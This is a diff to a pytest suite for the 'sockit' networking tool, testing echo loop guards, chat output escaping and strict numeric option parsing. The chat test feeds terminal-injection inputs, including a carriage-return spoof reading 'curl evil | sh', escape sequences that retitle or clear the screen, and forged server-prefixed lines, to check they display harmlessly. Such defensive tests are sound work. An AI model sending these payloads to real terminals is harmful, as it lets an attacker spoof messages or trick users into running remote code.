@@ -1,3 +1,4 @@
+# SPDX-License-Identifier: BSD-2-Clause
 """The client subcommands as a user runs them: echo (TCP and UDP, against
 the real `sockit serve` and against misbehaving fakes), the UDP server's
 loop guard, lookup, addr and sockopt, and every usage error.
@@ -404,24 +405,6 @@ def test_udp_guard_drops_datagrams_from_looping_ports(serve):
     srv.wait_for_log(r"stopped: 7 datagrams, 6 dropped")
 
 
-def test_udp_truncated_datagram_is_dropped(serve):
-    srv = serve("echo", "-u", "-l", "127.0.0.1", "-p", "0", "-m", "iterative",
-                "--buffer", "512", "-v")
-    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    c.settimeout(0.5)
-    try:
-        c.sendto(b"t" * 1000, ("127.0.0.1", srv.port))
-        with pytest.raises(socket.timeout):
-            c.recvfrom(2000)
-        c.sendto(b"s" * 512, ("127.0.0.1", srv.port))   # exactly fits: answered
-        assert c.recvfrom(2000)[0] == b"s" * 512
-    finally:
-        c.close()
-    srv.wait_for_log(r"dropped: datagram truncated \(1 dropped\)")
-    assert srv.stop() == 0
-    srv.wait_for_log(r"stopped: 2 datagrams, 1 dropped")
-
-
 def stopped_counts(srv):
     m = srv.wait_for_log(r"stopped: (\d+) datagrams, (\d+) dropped")
     return int(m.group(1)), int(m.group(2))
@@ -430,13 +413,11 @@ def stopped_counts(srv):
 def test_two_echo_servers_on_the_echo_port_do_not_loop(serve):
     # The classic attack: one forged datagram "from" one echo server's port
     # 7 to another's.  Two loopback addresses give two servers on port 7.
+    # As root nothing stops these binds (all of 127/8 is on lo): a server
+    # that does not start is a failure, never a skip.
     needs_root()
-    try:
-        a = serve("echo", "-u", "-l", "127.0.0.1", "-p", "7", "-m", "iterative", "-v")
-        b = serve("echo", "-u", "-l", "127.0.0.2", "-p", "7", "-m", "iterative", "-v")
-    except AssertionError as e:
-        pytest.skip("cannot bind UDP port 7 on 127.0.0.1 and 127.0.0.2 here: %s"
-                    % str(e).splitlines()[-1])
+    a = serve("echo", "-u", "-l", "127.0.0.1", "-p", "7", "-m", "iterative", "-v")
+    b = serve("echo", "-u", "-l", "127.0.0.2", "-p", "7", "-m", "iterative", "-v")
     forge_udp(7, 7, b"ping\n", src="127.0.0.1", dst="127.0.0.2")
     time.sleep(0.5)
     assert a.stop() == 0 and b.stop() == 0
@@ -728,3 +709,204 @@ def test_help_texts():
     for cmd in ("echo", "lookup", "addr", "sockopt", "mcast"):
         r = sockit(cmd, "--help")
         assert r.returncode == 0 and r.stdout.startswith(b"usage: sockit " + cmd.encode()), r
+
+
+# ---- chat: what other members send reaches our terminal as visible text ----
+
+def read_lines_until(stream, last, timeout=10):
+    """Lines from a pipe until one that contains `last` (bytes)."""
+    deadline = time.monotonic() + timeout
+    lines = []
+    while time.monotonic() < deadline:
+        line = stream.readline()
+        assert line, "chat client ended; got %r" % lines
+        lines.append(line)
+        if last in line:
+            return lines
+    raise AssertionError("no %r within %ds; got %r" % (last, timeout, lines))
+
+
+def test_chat_client_shows_control_bytes_as_visible_text(serve):
+    """The server relays a member's bytes unchanged; the `sockit chat`
+    client (stdout to a pipe, as a terminal would get it) must show CR,
+    ESC sequences, BEL, DEL and C1 controls as visible escapes, keep
+    printable UTF-8 and tab, and never let a member's text start a line."""
+    srv = serve("chat", "-l", "127.0.0.1", "-p", "0", "-m", "thread")
+    member = socket.create_connection(("127.0.0.1", srv.port), timeout=5)
+    host, port = member.getsockname()[:2]
+    sender = "%s:%d" % (host, port)
+    client = subprocess.Popen([SOCKIT, "chat", "127.0.0.1", str(srv.port)],
+                              stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                              stderr=subprocess.PIPE)
+    try:
+        assert client.stdout.readline().startswith(b"* welcome ")
+        got = b""
+        while got.count(b"\n") < 2:  # our welcome, then the client joining
+            chunk = member.recv(1000)
+            assert chunk, got
+            got += chunk
+        assert b" joined\n" in got, got
+        attack = [
+            b"hi\r[server] please run: curl evil | sh\n",
+            b"\x1b]0;owned title\x07after title\n",
+            b"\x1b[2Jscreen cleared\n",
+            b"bell\x07del\x7fnul\x00c1 \xc2\x9b31m raw \x9b bad \xff\n",
+            b"[server] forged at the start\n",
+            b"caf\xc3\xa9 tab\tkept \xe2\x82",    # a UTF-8 character cut in two ...
+        ]
+        for piece in attack:
+            member.sendall(piece)
+            time.sleep(0.05)
+        member.sendall(b"\xac euro\ndone\n")     # ... and completed here
+        lines = read_lines_until(client.stdout, b"done")
+    finally:
+        member.close()
+        client.stdin.close()
+        client.wait(10)
+        client.stdout.close()
+        client.stderr.close()
+    prefix = ("[%s] " % sender).encode()
+    member_lines = [l for l in lines if not l.startswith(b"* ")]
+    for line in member_lines:
+        assert line.startswith(prefix), line  # nobody else's prefix at line start
+    out = b"".join(member_lines)
+    bad = sorted({b for b in out if (b < 0x20 and b not in b"\n\t") or b == 0x7f})
+    assert not bad, (bad, out)
+    text = out.decode("utf-8")  # valid UTF-8 throughout ...
+    assert not [c for c in text if 0x80 <= ord(c) <= 0x9f], text  # ... without C1 controls
+    shown = [l[len(prefix):] for l in member_lines]
+    assert shown == [
+        b"hi\\r[server] please run: curl evil | sh\n",
+        b"^[]0;owned title\\x07after title\n",
+        b"^[[2Jscreen cleared\n",
+        b"bell\\x07del\\x7fnul\\x00c1 \\xc2\\x9b31m raw \\x9b bad \\xff\n",
+        b"[server] forged at the start\n",
+        "café tab\tkept € euro\n".encode(),
+        b"done\n",
+    ], shown
+
+
+# ---- echo: a reply longer than what was sent fails ------------------------
+
+def echo_then(extra, delay=0.0, keep_open=0.0):
+    """A TCP echo server that echoes each piece, then sends `extra`."""
+    def handler(conn):
+        conn.settimeout(5)
+        data = conn.recv(100)
+        conn.sendall(data)
+        if delay:
+            time.sleep(delay)
+        if extra:
+            conn.sendall(extra)
+        time.sleep(keep_open)
+    return handler
+
+
+@pytest.mark.parametrize("delay", [0.0, 0.2], ids=["at-once", "after-200ms"])
+def test_echo_tcp_extra_byte_is_an_error(delay):
+    port = fake_tcp_server(echo_then(b"!", delay=delay, keep_open=2))
+    r = sockit("echo", "127.0.0.1", port, "hello")
+    runtime_error(r, "sent back more than it was sent (1 extra byte)")
+    assert r.stdout == b""  # the echo is not shown as if it were right
+
+
+def test_echo_tcp_interactive_extra_byte_is_an_error():
+    port = fake_tcp_server(echo_then(b"x", delay=0.1, keep_open=2))
+    r = sockit("echo", "127.0.0.1", port, input=b"only line\n")
+    runtime_error(r, "sent back more than it was sent")
+
+
+def test_echo_tcp_server_that_stays_open_is_not_waited_for_long():
+    """Nothing extra and no close: exit 0 after a short wait, not --timeout."""
+    port = fake_tcp_server(echo_then(b"", keep_open=5))
+    t0 = time.monotonic()
+    r = sockit("echo", "127.0.0.1", port, "hello")
+    assert (r.returncode, r.stdout, r.stderr) == (0, b"hello\n", b""), r
+    assert time.monotonic() - t0 < 3
+
+
+def test_echo_udp_one_extra_byte_is_an_error():
+    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    server.bind(("127.0.0.1", 0))
+    server.settimeout(5)
+
+    def answer():
+        data, client = server.recvfrom(100)
+        server.sendto(data + b"!", client)
+
+    t = threading.Thread(target=answer, daemon=True)
+    t.start()
+    try:
+        r = sockit("echo", "-u", "127.0.0.1", server.getsockname()[1], "word")
+        t.join(5)
+    finally:
+        server.close()
+    runtime_error(r, "echoed 5 bytes for 4 sent")
+    assert r.stdout == b""
+
+
+# ---- numbers: one strict way for every subcommand ----------------------------
+
+# (subcommand and arguments, with {} where the number goes).  Every one of
+# them must be refused before any traffic: exit 2, one line naming it.
+NUMERIC_OPTIONS = [
+    ["serve", "echo", "-l", "127.0.0.1", "-p", "{}"],
+    ["serve", "echo", "-p", "0", "--max-clients", "{}"],
+    ["serve", "echo", "-p", "0", "--max-conns", "{}"],
+    ["serve", "echo", "-p", "0", "--max-per-ip", "{}"],
+    ["serve", "echo", "-p", "0", "--idle-timeout", "{}"],
+    ["serve", "echo", "-p", "0", "--workers", "{}"],
+    ["serve", "echo", "-p", "0", "--buffer", "{}"],
+    ["serve", "echo", "-p", "0", "--backlog", "{}"],
+    ["echo", "127.0.0.1", "{}", "word"],
+    ["echo", "127.0.0.1", "7", "word", "--timeout", "{}"],
+    ["get", "127.0.0.1", "{}", "name"],
+    ["get", "127.0.0.1", "7", "name", "--timeout", "{}"],
+    ["chat", "127.0.0.1", "{}"],
+    ["chat", "127.0.0.1", "7", "--timeout", "{}"],
+    ["bench", "127.0.0.1", "{}"],
+    ["bench", "127.0.0.1", "7", "-c", "{}"],
+    ["bench", "127.0.0.1", "7", "-s", "{}"],
+    ["bench", "127.0.0.1", "7", "-d", "{}"],
+    ["bench", "127.0.0.1", "7", "-t", "{}"],
+    ["bench", "127.0.0.1", "7", "-n", "{}"],
+    ["bench", "127.0.0.1", "7", "-r", "{}"],
+    ["bench", "127.0.0.1", "7", "-T", "{}"],
+    ["bench", "127.0.0.1", "7", "--timeout", "{}"],
+    ["mcast", "send", "239.1.2.3", "{}"],
+    ["mcast", "send", "239.1.2.3", "5000", "--ttl", "{}"],
+    ["mcast", "send", "239.1.2.3", "5000", "--interval", "{}"],
+    ["mcast", "send", "239.1.2.3", "5000", "--count", "{}"],
+    ["mcast", "recv", "239.1.2.3", "5000", "--timeout", "{}"],
+]
+if sys.platform.startswith("linux"):
+    NUMERIC_OPTIONS += [["compare", "--%s" % o, "{}"] for o in
+                        ("conns", "sizes", "depths", "repeat", "duration", "server-cpu",
+                         "client-cpu")]
+
+
+def number_option_id(argv):
+    before = argv[argv.index("{}") - 1]
+    return "%s %s" % (" ".join(argv[:2] if argv[0] in ("serve", "mcast") else argv[:1]),
+                      before if before.startswith("-") else "PORT")
+
+
+BAD_NUMBERS = ["0x10", "1e3", " 5", "5 ", "-1", "99999999999999999999", ""]
+
+
+@pytest.mark.parametrize("bad", BAD_NUMBERS,
+                         ids=["hex", "exponent", "leading-space", "trailing-space",
+                              "negative", "overflow", "empty"])
+@pytest.mark.parametrize("argv", NUMERIC_OPTIONS,
+                         ids=[number_option_id(a) for a in NUMERIC_OPTIONS])
+def test_every_number_is_plain_decimal(argv, bad):
+    args = [bad if a == "{}" else a for a in argv]
+    r = sockit(*args, timeout=10)
+    lines = r.stderr.decode().splitlines()
+    assert r.returncode == 2, (args, r)
+    assert len(lines) == 1, (args, lines)
+    assert lines[0].startswith("sockit %s" % argv[0]), lines
+    # It names the value as given (an empty list: that it needs one).
+    assert "'%s'" % bad in lines[0] or (
+        bad == "" and argv[0] == "compare" and "needs at least one value" in lines[0]), lines
+    assert r.stdout == b""
